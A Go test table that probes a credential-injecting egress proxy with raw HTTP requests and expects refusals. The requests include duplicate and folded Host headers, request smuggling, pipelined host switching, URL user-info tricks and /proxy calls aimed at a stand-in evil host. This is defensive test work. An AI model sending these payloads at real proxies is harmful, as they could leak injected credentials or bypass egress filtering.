//go:build linux

package main

import (
	"context"
	"fmt"
	"strings"
)

// What only bytes can say: two Host fields, odd line ends, requests one behind
// the other. $API and $EVIL stand for hosts, $P for the field with the placeholder.

type rawRow struct {
	name, want string
	may, asks  string
	sent       string
	connect    string // "" for the allowed host
	direct     bool   // to the proxy itself; $A is the field with the run's credential
	clear      bool   // without TLS
	answers    int    // that are waited for
}

var shorthand = strings.NewReplacer("$API", api, "$TWO", two, "$EVIL", evil, "$PLAIN", plain, "$P", authField)

func rawTable() []rawRow {
	get := "GET /v1/x HTTP/1.1\r\n"
	return []rawRow{
		{name: "two Host fields alike", want: "400", sent: get + "Host: $API\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "two Host fields, evil last", want: "400", sent: get + "Host: $API\r\nHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "two Host fields, evil first", want: "400", sent: get + "Host: $EVIL\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "Host folded over lines", want: strict, sent: get + "Host: $API\r\n .$EVIL\r\n$P\r\n\r\n"},
		{name: "a folded line before Host", want: strict, sent: get + " Host: $EVIL\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "a space before the colon of Host", want: "400", sent: get + "Host : $EVIL\r\n$P\r\n\r\n"},
		{name: "a space before the colon of a second Host", want: "400", sent: get + "Host: $API\r\nHost : $EVIL\r\n$P\r\n\r\n"},
		{name: "Host in lower case", want: "sent", may: api, sent: get + "host: $API\r\n$P\r\n\r\n"},
		{name: "HOST with a tab around", want: "sent|" + strict, may: api, sent: get + "HOST:\t$API\t\r\n$P\r\n\r\n"},
		{name: "a bare CR in Host", want: strict, sent: get + "Host: $API\rHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "a bare LF between Host fields", want: "400", sent: get + "Host: $API\nHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "a NUL in Host", want: strict, sent: get + "Host: $API\x00.$EVIL\r\n$P\r\n\r\n"},
		{name: "an empty Host", want: strict, sent: get + "Host:\r\n$P\r\n\r\n"},
		{name: "no Host", want: "400", sent: get + "$P\r\n\r\n"},
		{name: "HTTP/1.0 without Host", want: "sent", may: api, sent: "GET /v1/x HTTP/1.0\r\n$P\r\n\r\n"},
		{name: "HTTP/1.0 with evil", want: "421", sent: "GET /v1/x HTTP/1.0\r\nHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "HTTP/0.9", want: "400|reset", sent: "GET /v1/x\r\n\r\n"},
		{name: "HTTP/3.0 on its line", want: "400|505|reset", sent: "GET /v1/x HTTP/3.0\r\nHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "two spaces in the request line", want: strict, sent: "GET  https://$EVIL/ HTTP/1.1\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "a tab in the request line", want: strict, sent: "GET /v1/x\thttps://$EVIL/ HTTP/1.1\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "CONNECT inside the tunnel", want: "405", sent: "CONNECT $EVIL:443 HTTP/1.1\r\nHost: $EVIL:443\r\n$P\r\n\r\n"},
		{name: "CONNECT inside the tunnel, to the same", want: "405|421", sent: "CONNECT $API:443 HTTP/1.1\r\nHost: $API:443\r\n$P\r\n\r\n"},
		{name: "TRACE", want: "405", sent: "TRACE /v1/x HTTP/1.1\r\nHost: $API\r\n$P\r\n\r\n"},
		{name: "the second request on a connection turns", want: "421", asks: api, answers: 2,
			sent: "GET /v1/y HTTP/1.1\r\nHost: $API\r\n\r\n" + get + "Host: $EVIL\r\n$P\r\n\r\n"},
		{name: "a request hidden in a body", want: "any", may: api,
			sent: "POST /v1/x HTTP/1.1\r\nHost: $API\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get + "Host: $EVIL\r\n$P\r\n\r\n"},
		{name: "a request behind one without length", want: "421", asks: api, answers: 2,
			sent: "GET /v1/y HTTP/1.1\r\nHost: $API\r\nContent-Length: 0\r\n\r\nGET https://$EVIL/ HTTP/1.1\r\nHost: $EVIL\r\n$P\r\n\r\n"},
		{name: "two lengths", want: "400", sent: "POST /v1/x HTTP/1.1\r\nHost: $API\r\nContent-Length: 0\r\nContent-Length: 50\r\n$P\r\n\r\n" + get},
		{name: "an upgrade to h2c", want: "sent|400|403", may: api, sent: get + "Host: $API\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n$P\r\n\r\n"},
		{name: "HTTP/2 without ALPN", want: "400|405|421|505|reset", sent: "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
		{name: "no TLS in the tunnel", want: "400", clear: true, sent: get + "Host: $API\r\n$P\r\n\r\n"},
		{name: "no TLS in the tunnel, evil", want: "400", clear: true, connect: evilPort, sent: get + "Host: $API\r\n$P\r\n\r\n"},
		{name: "http:// of an allowed host", want: "403", direct: true, sent: "GET http://$API/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "http:// of a host allowed at port 80", want: "403", direct: true, sent: "GET http://$PLAIN/ HTTP/1.1\r\nHost: $PLAIN\r\n$A\r\n$P\r\n\r\n"},
		{name: "http:// of evil", want: "403", direct: true, sent: "GET http://$EVIL/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "https:// without CONNECT", want: "sent", may: api, direct: true, sent: "GET https://$API/v1/x HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "https:// of evil without CONNECT", want: "403|421", direct: true, sent: "GET https://$EVIL/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "https:// without CONNECT, Host evil", want: "sent|421", may: api, direct: true, sent: "GET https://$API/ HTTP/1.1\r\nHost: $EVIL\r\n$A\r\n$P\r\n\r\n"},
		{name: "https:// with user info", want: "400", direct: true, sent: "GET https://$API@$EVIL/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "https:// with a backslash", want: "400", direct: true, sent: "GET https://$EVIL\\@$API/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "ftp://", want: "400", direct: true, sent: "GET ftp://$API/ HTTP/1.1\r\nHost: $API\r\n$A\r\n$P\r\n\r\n"},
		{name: "/proxy to evil", want: "403", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nX-AS-Target-URL: https://$EVIL/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy to allowed", want: "sent", may: api, direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nX-AS-Target-URL: https://$API/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy with user info", want: "400", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nX-AS-Target-URL: https://$API@$EVIL/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy without TLS", want: "403", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nX-AS-Target-URL: http://$PLAIN/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy with a Host field put in", want: "400|403|421|text", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nX-AS-Target-URL: https://$API/\r\nX-AS-Inject-Header-Host: API_KEY\r\n\r\n"},
		{name: "/proxy from a web page", want: "403", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\n$A\r\nOrigin: https://$EVIL\r\nX-AS-Target-URL: https://$API/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy by another host name", want: "403", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: $EVIL\r\n$A\r\nX-AS-Target-URL: https://$API/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
		{name: "/proxy without a credential", want: "407", direct: true, sent: "GET /proxy HTTP/1.1\r\nHost: 127.0.0.1\r\nX-AS-Target-URL: https://$API/\r\nX-AS-Inject-Bearer: API_KEY\r\n\r\n"},
	}
}

func bytesProbes() []probe {
	var all []probe
	for _, row := range rawTable() {
		all = append(all, row.probe())
	}
	return all
}

func (row rawRow) probe() probe {
	row.sent = shorthand.Replace(row.sent)
	tried := strings.ReplaceAll(row.sent, "\r\n", "⏎")
	to := or(row.connect, apiPort)
	if row.direct {
		to = ""
	}
	return probe{
		name: row.name, want: row.want, may: row.may, asks: row.asks, tried: fmt.Sprintf("%.100q", tried),
		do: func(ctx context.Context, w *world) (answer, error) {
			b := strings.ReplaceAll(row.sent, "$A\r\n", w.proxy.authorization()+"\r\n")
			return w.proxy.send(ctx, wire{connect: to, clear: row.clear, bytes: b, answers: row.answers})
		},
	}
}
